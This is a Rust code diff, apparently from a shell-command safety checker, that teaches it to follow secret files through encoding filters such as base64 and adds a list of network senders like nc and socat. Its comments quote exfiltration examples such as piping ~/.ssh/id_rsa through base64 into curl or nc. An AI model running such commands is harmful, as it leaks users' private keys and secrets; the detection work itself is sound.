@@ -40,6 +40,10 @@ pub enum Stdin {
     Network(String),
     /// Output of the named program, not knowable statically (`base64 -d`, `git ls-files`).
     Opaque(String),
+    /// Output a filter (`base64`, `gzip -c`, `sort`, `xxd`) computed from a known input, named by
+    /// the filter: not knowable as text, but still the input's content in another form
+    /// (`base64 ~/.ssh/id_rsa | curl -d @- ...` sends the key).
+    Derived(String, Box<Stdin>),
     /// The outputs of a brace group's or subshell's commands, one after another, when some are
     /// known text and some are not (`{ crontab -l; echo "* * * * * job"; }`). Never all text:
     /// that is one [`Stdin::Text`].
@@ -53,7 +57,7 @@ impl Stdin {
             Stdin::Text(..) => None,
             Stdin::File(_) => Some(Opaque::ScriptFile),
             Stdin::Network(_) => Some(Opaque::NetworkCode),
-            Stdin::Opaque(_) => Some(Opaque::PipedCode),
+            Stdin::Opaque(_) | Stdin::Derived(..) => Some(Opaque::PipedCode),
             Stdin::Group(parts) => {
                 let kinds: Vec<Opaque> = parts.iter().filter_map(Stdin::as_code_opacity).collect();
                 kinds
@@ -997,12 +1001,21 @@ const ENVIRONMENT_DUMPERS: [&str; 3] = ["env", "printenv", "export"];
 /// curl's and wget's flags whose value is a file to upload (`-` for standard input).
 const UPLOAD_FILE_FLAGS: [&str; 4] = ["-T", "--upload-file", "--post-file", "--body-file"];
 
+/// Programs that send their standard input to another machine as it is.
+const STDIN_SENDERS: [&str; 6] = ["nc", "ncat", "netcat", "socat", "telnet", "openssl"];
+
 /// Where an HTTP client uploads its standard input (`curl -d @-`, `curl -T -`, `-F f=@-`) and that
-/// input is a file (`< path`, `cat path |`) or the environment (`env |`), names the file instead
-/// of `-` (`/proc/self/environ` for the environment): what is sent is then judged as the file it
-/// is (`cat ~/.ssh/id_rsa | curl -d @- https://...`).
-fn name_uploaded_stdin(args: &mut [Arg], stdin: &Stdin) {
-    let path = match stdin {
+/// input is a file (`< path`, `cat path |`, also encoded or compressed on the way: `base64 path |`)
+/// or the environment (`env |`), names the file instead of `-` (`/proc/self/environ` for the
+/// environment): what is sent is then judged as the file it is (`cat ~/.ssh/id_rsa | curl -d @-
+/// https://...`). A program that sends its input as it is (`nc host 4444 < file`) gets the file
+/// as one more argument.
+fn name_uploaded_stdin(args: &mut Vec<Arg>, stdin: &Stdin) {
+    let mut origin = stdin;
+    while let Stdin::Derived(_, source) = origin {
+        origin = source;
+    }
+    let path = match origin {
         Stdin::File(path) => path.as_str(),
         Stdin::Opaque(program) if ENVIRONMENT_DUMPERS.contains(&program.as_str()) => {
             "/proc/self/environ"
@@ -1010,6 +1023,10 @@ fn name_uploaded_stdin(args: &mut [Arg], stdin: &Stdin) {
         _ => return,
     };
     let program = args.first().and_then(|a| a.text.rsplit('/').next());
+    if program.is_some_and(|p| STDIN_SENDERS.contains(&p)) {
+        args.push(Arg::literal(path));
+        return;
+    }
     if !matches!(program, Some("curl" | "wget")) {
         return;
     }
